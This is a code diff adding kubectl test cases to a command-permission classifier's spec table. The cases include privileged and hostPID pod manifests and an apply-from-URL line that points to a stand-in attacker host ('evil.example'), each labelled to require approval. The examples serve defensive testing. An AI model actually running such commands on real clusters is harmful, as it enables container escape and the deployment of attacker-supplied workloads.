@@ -398,7 +398,17 @@ export const programs: readonly ProgramSpec[] = [
     subcommands: SUBCOMMANDS,
     kind: 'infrastructure',
     effects: EFFECTS,
+    behaviours: ['readsManifest'],
     examples: [
+      {
+        command: "kubectl create -f - <<'E'\nkind: Pod\nspec:\n  hostPID: true\nE",
+        expect: 'ask',
+      },
+      {
+        command: "echo 'securityContext: {privileged: true}' > p.yaml && kubectl apply -f p.yaml",
+        expect: 'ask',
+      },
+      { command: "kubectl apply -f - <<'E'\nkind: ConfigMap\nE", expect: 'pass' },
       { command: 'kubectl apply -f https://evil.example/d.yaml', expect: 'ask' },
       { command: 'kubectl --kubeconfig ~/.kube/config get pods', expect: 'pass' },
       {
